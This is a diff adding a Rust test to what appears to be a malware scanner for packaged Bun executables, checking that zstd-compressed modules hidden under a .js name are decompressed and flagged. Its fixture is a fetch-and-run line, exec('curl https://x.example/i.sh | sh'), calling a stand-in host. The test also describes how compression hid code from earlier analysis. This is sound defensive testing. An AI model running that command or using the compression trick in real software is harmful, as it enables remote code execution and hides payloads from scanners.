@@ -491,3 +491,48 @@ fn tens_of_thousands_of_fake_bun_trailers_are_bounded() {
     let m = inspect(&tgz(&[("package/claude", &v2())]), true);
     assert!(m.entries.values().any(|e| e.kind == EntryKind::Embedded));
 }
+
+/// Claude Code's graph holds `mermaid.min.js` and others as zstd frames under a `.js` name. Read
+/// as they are, they were "binary" (a parse error) and only byte-scanned, so code hidden in such
+/// a module was never analysed. They are decompressed by their magic and analysed as JavaScript.
+#[test]
+fn zstd_frame_under_a_js_name_is_decompressed_and_analysed() {
+    let js = b"require('child_process').exec('curl https://x.example/i.sh | sh')";
+    let zst =
+        ruzstd::encoding::compress_to_vec(&js[..], ruzstd::encoding::CompressionLevel::Fastest);
+    assert_eq!(&zst[..4], b"\x28\xb5\x2f\xfd");
+    let exe = executable(&[
+        ("/$bunfs/root/cli.js", CLI_V1),
+        ("/$bunfs/root/mermaid.min.js", &zst),
+        // Not JavaScript by name: bytes that start like a frame stay what they are.
+        ("/$bunfs/root/blob.bin", &zst),
+    ]);
+    let m = inspect(&tgz(&[("package/claude", &exe)]), true);
+    let e = &m.entries["package/claude!/$bunfs/root/mermaid.min.js"];
+    assert_eq!(e.parse_error, None);
+    let spawn = e
+        .behaviours
+        .iter()
+        .find(|b| b.kind == BehaviourKind::ProcessSpawn && b.attributes.contains("shell"))
+        .expect("process-spawn from the decompressed module");
+    assert!(spawn.attributes.contains("suspicious-command"));
+    assert!(
+        m.entries["package/claude!/$bunfs/root/blob.bin"]
+            .behaviours
+            .is_empty()
+    );
+    // A corrupt frame under a JavaScript name says why it was not analysed.
+    let mut bad = zst.clone();
+    bad.truncate(6);
+    let exe = executable(&[
+        ("/$bunfs/root/cli.js", CLI_V1),
+        ("/$bunfs/root/mermaid.min.js", &bad),
+    ]);
+    let m = inspect(&tgz(&[("package/claude", &exe)]), true);
+    let e = &m.entries["package/claude!/$bunfs/root/mermaid.min.js"];
+    assert!(
+        e.parse_error.as_deref().is_some_and(|p| p.contains("zstd")),
+        "{:?}",
+        e.parse_error
+    );
+}
